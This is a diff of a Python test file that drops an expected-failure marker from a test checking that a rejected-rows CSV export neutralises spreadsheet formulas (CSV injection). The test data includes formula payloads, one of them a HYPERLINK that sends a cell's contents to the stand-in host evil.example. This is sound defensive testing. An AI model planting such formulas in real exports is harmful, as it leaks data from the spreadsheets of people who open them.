@@ -382,11 +382,6 @@ def test_workspace_deleted_mid_run_ends_exact_or_fails_cleanly(moment: str, env:
 # -- reports opened in a spreadsheet ------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="tui/cli_runs.py writes cells starting with = + - @ as they are: a spreadsheet "
-    "opening the rejected-rows CSV runs them as formulas (CSV injection)",
-)
 def test_rejected_rows_csv_does_not_carry_formulas(env: Env, capsys, tmp_path: Path):
     env.add_destination("news")
     formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
